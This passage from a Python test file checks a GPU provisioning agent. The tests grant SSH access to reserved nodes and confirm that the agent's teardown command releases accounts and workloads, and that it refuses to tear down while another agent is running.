    params = provision([public], gpus=[1])

    access = (await driver.provision(params, Progress()))["access"]
    try:
        status, output = await ssh(access, key, "nvidia-smi -L")
    finally:
        await driver.release(params, Progress())

    gpu = backend.inventory().gpus[1]
    assert access["host"] == "fleet-host.example"
    assert (status, output) == (0, f"GPU 1: NVIDIA A100-SXM4-40GB (UUID: {gpu.uuid})\n")


# --- Tearing down what agents left (``neocloud-agent teardown``, ``make clean``) ---


async def teardown_command(state_dir: Path) -> tuple[int, str, str]:
    command = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "provisioning.agent.cli",
        "teardown",
        "--state-dir",
        str(state_dir),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    output, errors = await command.communicate()
    return command.returncode, output.decode(), errors.decode()


def released_line(state_dir: Path, reservation: str, access: dict, *, ran: bool) -> str:
    who = f"the account {access['user']} removed" if ROOT else f"as {access['user']}"
    ended = ", what still ran ended" if ran else ""
    return f"{state_dir}: released the SSH access of reservation {reservation} ({who}, port {access['port']}{ended})"


async def test_teardown_removes_what_a_fleets_agents_left_and_refuses_while_one_runs(access_dir, tmp_path):
    fleet = access_dir / "agents"
    pretend, real_host = fleet / "n1", fleet / "n2"
    key, public = client_key(tmp_path, "alice")
    logged_into, logged_into_too = provision([public]), provision([public])
    working = {"reservation": str(uuid.uuid4()), "gpus": [6], "command": ["sleep", "600"]}
    stopped_node = simulated(pretend)
    pretend_access = (await stopped_node.provision(logged_into, Progress()))["access"]
    await stopped_node.shutdown()  # its agent stopped: the server with it, the account left
    host = real(real_host)
    real_access = (await host.provision(logged_into_too, Progress()))["access"]
    group = (await host.provision(working, Progress()))["pid"]
    reservations = {logged_into["reservation"], working["reservation"], logged_into_too["reservation"]}

    with state_lock(real_host):
        refused = await teardown_command(fleet)
    still_in = await ssh(real_access, key, "echo still")
    account_kept = ROOT is False or account_exists(pretend_access["user"])
    status, output, errors = await teardown_command(fleet)
    again = await teardown_command(fleet)

    assert refused == (
        1,
        "",
        f"neocloud-agent: another agent is running on {real_host}: stop it first (nothing was torn down)\n",
    )
    assert still_in == (0, "still\n") and account_kept, "nothing was torn down"
    assert (status, errors) == (0, "")
    assert output.splitlines() == [
        released_line(pretend, logged_into["reservation"], pretend_access, ran=False),
        f"{real_host}: stopped the workload of reservation {working['reservation']} (process group {group})",
        released_line(real_host, logged_into_too["reservation"], real_access, ran=True),
    ]
    assert processes_of(reservations, set(), fleet) == [], "no server, session or workload is left"
    assert ROOT is False or not any(account_exists(access["user"]) for access in (pretend_access, real_access))
    assert list((pretend / "access").iterdir()) == list((real_host / "access").iterdir()) == [], "nor any file"
    assert again == (0, f"nothing to tear down under {fleet}\n", "")


async def test_teardown_takes_a_single_agents_state_directory_too(access_dir, tmp_path):
    state_dir = access_dir / "state"
    _, public = client_key(tmp_path, "alice")
    params = provision([public])
    access = (await real(state_dir).provision(params, Progress()))["access"]

    status, output, _ = await teardown_command(state_dir)

    assert (status, output) == (0, released_line(state_dir, params["reservation"], access, ran=True) + "\n")
    assert real(state_dir).holdings() == {} and processes_of({params["reservation"]}, set(), state_dir) == []


@pytest.mark.skipif(not ROOT, reason="accounts are made only by an agent run as root (as CI does)")
async def test_two_simulated_nodes_on_one_machine_set_up_one_reservation_at_once(access_dir, tmp_path):
    """A fleet's nodes share this machine's accounts: provisioned and released together, a reservation
    of two of them gets an account on each, both let the tenant in, and nothing is left."""
    key, public = client_key(tmp_path, "alice")
    params = provision([public])
    reservation = params["reservation"]
    nodes = [simulated(access_dir / f"node-{n}") for n in (1, 2)]
    details = await asyncio.gather(*(node.provision(params, Progress()) for node in nodes))
    users = [detail["access"]["user"] for detail in details]
    assert len(set(users)) == 2 and account_name(reservation) in users
    for detail in details:
        assert (await ssh(detail["access"], key, "id -un"))[1].strip() == detail["access"]["user"]
    release = {"reservation": reservation}
    await asyncio.gather(*(node.release(release, Progress()) for node in nodes))
    assert not any(account_exists(user) for user in users)
